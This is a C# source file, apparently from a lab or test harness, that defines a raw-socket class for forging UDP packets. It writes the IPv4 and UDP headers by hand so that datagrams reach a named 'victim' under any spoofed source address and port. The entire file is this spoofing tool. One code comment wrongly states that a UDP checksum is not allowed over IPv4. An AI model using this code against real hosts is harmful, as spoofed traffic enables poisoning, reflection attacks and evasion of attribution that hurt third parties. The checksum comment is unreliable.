using System.Net.Sockets;

namespace KadOrleans.Lab;

/// <summary>Sends UDP datagrams over IPv4 under any source address and port. Needs the right to open raw sockets.</summary>
internal sealed class ForgingSocket : IDisposable
{
    private const int IPLength = 20;
    private const int UdpLength = 8;
    private const int MaxDatagram = 8_300;

    // IPPROTO_RAW: whoever sends writes the header of the packet too.
    private readonly Socket _socket = new(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw);
    private readonly byte[] _packet = new byte[IPLength + UdpLength + MaxDatagram];
    private readonly SocketAddress _destination;
    private readonly UdpEndpoint _victim;

    public ForgingSocket(UdpEndpoint victim)
    {
        _victim = victim;
        _destination = new IPEndPoint(victim.ToIPAddress(), 0).Serialize();
        _socket.SendBufferSize = 4 << 20;
    }

    public void Send(ReadOnlySpan<byte> datagram, UdpEndpoint source)
    {
        var ip = _packet.AsSpan();
        ip[..IPLength].Clear();
        ip[0] = 0x45;
        ip[8] = 64;
        ip[9] = (byte)ProtocolType.Udp;
        BinaryPrimitives.WriteUInt32BigEndian(ip[12..], (uint)source.AddressLow);
        BinaryPrimitives.WriteUInt32BigEndian(ip[16..], (uint)_victim.AddressLow);
        var udp = ip[IPLength..];
        BinaryPrimitives.WriteUInt16BigEndian(udp, source.Port);
        BinaryPrimitives.WriteUInt16BigEndian(udp[2..], _victim.Port);
        BinaryPrimitives.WriteUInt16BigEndian(udp[4..], (ushort)(UdpLength + datagram.Length));

        // Over IPv4 no checksum is allowed.
        BinaryPrimitives.WriteUInt16BigEndian(udp[6..], 0);
        datagram.CopyTo(udp[UdpLength..]);
        _socket.SendTo(ip[..(IPLength + UdpLength + datagram.Length)], SocketFlags.None, _destination);
    }

    public void Dispose() => _socket.Dispose();
}
